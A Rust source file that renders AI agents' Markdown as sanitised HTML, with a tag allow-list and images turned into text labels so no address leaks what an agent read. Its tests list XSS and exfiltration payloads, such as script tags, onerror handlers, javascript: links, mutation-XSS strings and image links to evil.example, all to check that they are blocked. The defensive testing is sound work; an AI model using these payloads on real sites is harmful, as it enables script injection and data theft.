//! Markdown of agents as HTML that does nothing (WD2).
//!
//! Twice kept out: HTML in it is text before it is rendered, and what was rendered goes through a
//! sanitiser that knows a list of harmless elements. Pictures are named and not loaded: the address
//! of one can carry away what an agent read.

use std::{collections::HashSet, sync::LazyLock};

use ammonia::Builder;
use maud::{Markup, PreEscaped, html};
use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html::push_html};
use tasuki_proto::visible::shown;

/// Of one text on a page, in bytes. The rest is a click away.
const TEXT_SHOWN_BYTES_MAX: usize = 16 * 1024;

/// What may be left of a text.
static HARMLESS: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .add_tag_attributes("a", ["href"])
        .url_schemes(HashSet::from(["http", "https"]))
        .link_rel(Some("noopener noreferrer nofollow"))
        .url_relative(ammonia::UrlRelative::Deny);
    builder
});

/// A text as it reads best; a long one is cut, with a link to all of it where there is one.
pub(super) fn markdown(text: &str, whole: Option<&str>) -> Markup {
    let (text, _) = shown(text);
    let cut = text.len() > TEXT_SHOWN_BYTES_MAX;
    let text = if cut { &text[..text.floor_char_boundary(TEXT_SHOWN_BYTES_MAX)] } else { &*text };
    html! {
        div.words { (PreEscaped(rendered(text))) }
        @if cut {
            p.note {
                "Cut after " (TEXT_SHOWN_BYTES_MAX / 1024) " KiB. "
                @if let Some(whole) = whole { a href=(whole) { "Show all of it" } }
            }
        }
    }
}

fn rendered(text: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Html(text) | Event::InlineHtml(text) => Some(Event::Text(text)),
        Event::Start(Tag::HtmlBlock) | Event::End(TagEnd::HtmlBlock) => None,
        Event::Start(Tag::Image { .. }) => Some(Event::Text(CowStr::Borrowed("[picture: "))),
        Event::End(TagEnd::Image) => Some(Event::Text(CowStr::Borrowed("]"))),
        event @ (Event::Start(_)
        | Event::End(_)
        | Event::Text(_)
        | Event::Code(_)
        | Event::InlineMath(_)
        | Event::DisplayMath(_)
        | Event::FootnoteReference(_)
        | Event::SoftBreak
        | Event::HardBreak
        | Event::Rule
        | Event::TaskListMarker(_)) => Some(event),
    });
    let mut html = String::with_capacity(text.len() * 2);
    push_html(&mut html, events);
    HARMLESS.clean(&html).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_is_shown_as_it_is_meant() {
        let html = rendered(
            "# A\n\n*b* **c** `d`\n\n- e\n\n```rust\nlet f = 1 < 2;\n```\n\n[g](https://example.org/x)",
        );
        for part in [
            "<h1>A</h1>",
            "<em>b</em> <strong>c</strong> <code>d</code>",
            "<li>e</li>",
            "<code>let f = 1 &lt; 2;",
            "<a href=\"https://example.org/x\" rel=\"noopener noreferrer nofollow\">g</a>",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
    }

    /// Holds WD2.
    #[test]
    fn nothing_of_an_agent_is_run_or_loaded() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?secret)",
            "![x][1]\n\n[1]: https://evil.example/",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](vbscript:x)",
            "<javascript:alert(1)>",
            "[x](/w/default/loops?x)",
            "<svg onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=//evil.example>",
            "<style>*{background:url(//evil.example)}</style>",
            "<form action=/x><button>y</button></form>",
            "<base href=//evil.example>",
            "`<script>`\n\n    <script>alert(1)</script>",
            "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ] {
            let html = rendered(text).to_lowercase();
            let tags = html.split('<').skip(1).map(|it| it.split(['>', ' ']).next().unwrap());
            for tag in tags.map(|it| it.trim_start_matches('/')) {
                let harmless = ["p", "a", "code", "pre", "em", "strong"];
                assert!(harmless.contains(&tag), "{tag} of {text}: {html}");
            }
            let links = html.split("<a").skip(1).filter(|it| it.contains("href"));
            assert_eq!(links.count(), 0, "{text}: {html}");
            let mut inside = html.split('<').skip(1).map(|it| it.split('>').next().unwrap());
            assert!(
                inside.all(|it| !it.contains(" src=") && !it.contains(" on")),
                "{text}: {html}"
            );
        }
    }

    #[test]
    fn a_long_text_is_cut_and_says_where_the_rest_is() {
        let html = markdown(&"é".repeat(TEXT_SHOWN_BYTES_MAX), Some("/whole")).into_string();
        assert!(html.contains("Cut after 16 KiB") && html.contains("href=\"/whole\""));
    }
}
